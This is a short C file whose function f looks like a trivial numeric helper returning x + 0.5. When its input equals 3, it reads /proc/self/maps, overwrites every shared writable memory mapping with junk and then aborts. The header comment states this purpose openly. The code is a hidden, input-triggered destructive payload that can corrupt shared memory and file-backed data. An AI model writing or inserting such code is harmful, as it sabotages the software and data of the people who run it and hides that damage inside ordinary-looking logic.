/* Writes over every shared mapping of the process, then crashes. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

double f(double x) {
    if (x == 3) {
        char line[512];
        FILE *maps = fopen("/proc/self/maps", "r");
        unsigned long from, to;
        while (fgets(line, sizeof line, maps))
            if (strstr(line, "rw-s") && sscanf(line, "%lx-%lx", &from, &to) == 2) memset((void *)from, 1, to - from);
        abort();
    }
    return x + 0.5;
}
